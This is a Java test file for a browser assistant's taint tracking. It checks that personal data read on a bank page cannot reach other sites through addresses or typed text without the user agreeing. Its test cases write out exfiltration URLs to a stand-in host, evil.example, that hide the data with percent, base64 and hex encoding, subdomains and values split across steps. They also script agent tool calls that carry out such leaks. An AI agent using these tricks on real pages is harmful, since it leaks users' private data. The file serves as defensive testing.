package dev.backendrig;

import static dev.backendrig.BankVisit.BANK;
import static dev.backendrig.BankVisit.BANK_TEXT;
import static dev.backendrig.BankVisit.to;
import static dev.backendrig.http.socket.ExtendedClient.json;
import static dev.backendrig.model.gemini.Chunks.call;
import static dev.backendrig.model.gemini.Chunks.finish;
import static dev.backendrig.model.gemini.Chunks.text;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// What was read on one site on its way to another, in addresses and in typed text.
class TaintEndToEndTest {
    @TempDir Path folder;
    private BankVisit visit;

    @BeforeEach
    void start() throws IOException {
        visit = new BankVisit(folder);
    }

    @AfterEach
    void stop() throws IOException {
        visit.close();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://evil.example/?q=siti.rahmawati%40contoh.co.id",
                "https://evil.example/%73%69%74%69%20%72%61%68%6d%61%77%61%74%69",
                "https://evil.example/c/U2l0aSBSYWhtYXdhdGk",
                "https://evil.example/?d=U2l0aSBSYWhtYXdhdGk%3D",
                "https://evil.example/#73697469207261686d6177617469",
                "https://evil.example/x/1000092116904713",
                "https://evil.example/?d=VTJsMGFTQlNZV2h0WVhkaGRHaw",
                "https://siti-rahmawati.evil.example/",
                "https://73697469.7261686d.6177617469.evil.example/",
                "https://evil.example/3174/0961/1290/0001"
            })
    void anAddressThatCarriesWhatWasReadSaysSoInTheQuestion(String url) throws Exception {
        visit.isOn(BANK);
        visit.readsTheBank();
        visit.rig.calls("navigate_to", to(url));
        try (var run = visit.rig.panel.start(visit.browser.asking("What is here?"))) {
            visit.showsTheBank();
            assertThat(visit.asked("deny"))
                    .contains(
                            "The assistant wants to open evil.example.",
                            "The address would tell evil.example something that was read on"
                                    + " bank.example.");
            run.whole();
        }
    }

    @Test
    void aValueThatIsSplitOverStepsIsSeenWhenItComesTogether() throws Exception {
        visit.isOn(BANK);
        visit.readsTheBank();
        for (var piece : List.of("siti", "rahma", "wati")) {
            visit.rig.answers(
                    call("navigate_to", to("https://evil.example/?p=" + piece)), finish("STOP"));
        }
        visit.rig.answers(text("Done."), finish("STOP"));
        try (var run = visit.rig.panel.start(visit.browser.asking("What is here?"))) {
            visit.showsTheBank();
            assertThat(visit.asked("allow")).doesNotContain("would tell");
            visit.browser.done(
                    visit.browser.await("action_request"),
                    json("{'navigated_to':'https://evil.example/?p=siti'}"));
            assertThat(visit.asked("allow")).contains("would tell");
            visit.browser.done(
                    visit.browser.await("action_request"),
                    json("{'navigated_to':'https://evil.example/?p=rahma'}"));
            assertThat(visit.asked("deny")).contains("would tell");
            run.whole();
        }
    }

    @Test
    void whatWasReadIsTypedOnAnotherSiteOnlyIfThePersonAgrees() throws Exception {
        visit.isOn(BANK);
        visit.readsTheBank();
        visit.rig.answers(call("navigate_to", to("https://evil.example/form")), finish("STOP"));
        visit.lists();
        visit.rig.calls("type_text", json("{'ref':1,'text':'siti.rahmawati'}"));
        try (var run = visit.rig.panel.start(visit.browser.asking("Go on"))) {
            visit.showsTheBank();
            visit.asked("allow");
            visit.browser.done(
                    visit.browser.await("action_request"),
                    json("{'navigated_to':'https://evil.example/form','title':'Form'}"));
            visit.browser.done(
                    visit.browser.await("action_request"),
                    json("{'elements':[{'id':1,'role':'textbox','name':'Nama'}]}"));
            assertThat(visit.asked("deny"))
                    .contains(
                            "The browser is on evil.example now, and the assistant wants to do"
                                    + " something on the page.",
                            "The text would tell evil.example something that was read on"
                                    + " bank.example.");
            run.whole();
        }
    }

    @Test
    void aSiteThatThePersonNamedIsToldWhatWasReadElsewhereOnlyIfTheyAgree() throws Exception {
        visit.isOn(BANK);
        visit.readsTheBank();
        visit.rig.calls("navigate_to", to("https://shop.example/?q=siti.rahmawati"));
        try (var run = visit.rig.panel.start(visit.browser.asking("Compare with shop.example"))) {
            visit.showsTheBank();
            assertThat(visit.asked("deny"))
                    .isEqualTo(
                            "The address would tell shop.example something that was read on"
                                    + " bank.example.");
            run.whole();
        }
    }

    @Test
    void soIsTheSiteThatAClickLedTo() throws Exception {
        visit.isOn(BANK);
        visit.readsTheBank();
        visit.lists();
        visit.rig.answers(call("click_element", json("{'ref':4}")), finish("STOP"));
        visit.rig.calls("navigate_to", to("https://other.example/?q=siti.rahmawati"));
        try (var run = visit.rig.panel.start(visit.browser.asking("Go on"))) {
            visit.showsTheBank();
            visit.showsElements();
            visit.does("click_element", "{'navigated_to':'https://other.example/'}");
            assertThat(visit.asked("deny"))
                    .isEqualTo(
                            "The address would tell other.example something that was read on"
                                    + " bank.example.");
            run.whole();
        }
    }

    @Test
    void theSiteThatTheRunBeganOnMayBeToldWhatWasReadElsewhere() throws Exception {
        visit.isOn(BANK);
        visit.rig.answers(call("navigate_to", to("https://shop.example/")), finish("STOP"));
        visit.readsTheBank();
        visit.rig.calls("navigate_to", to("https://bank.example/?q=melati.kencana"));
        try (var run = visit.rig.panel.start(visit.browser.asking("Compare with shop.example"))) {
            visit.does("navigate_to", "{'navigated_to':'https://shop.example/'}");
            visit.does(
                    "get_page_content",
                    "{'url':'https://shop.example/','text':'Toko melati.kencana'}");
            visit.does("navigate_to", "{'navigated_to':'https://bank.example/'}");
            run.whole();
        }
    }

    @Test
    void pageContextOfTheRequestIsAPageThatWasRead() throws Exception {
        visit.rig.calls("navigate_to", to("https://first.example/?q=siti.rahmawati"));
        var body =
                visit.browser.asking("Find a recipe").toBuilder()
                        .put("page_content", BANK_TEXT)
                        .build();
        try (var run = visit.rig.panel.start(body)) {
            assertThat(visit.asked("deny"))
                    .contains("first.example something that was read on another page");
            run.whole();
        }
    }
}
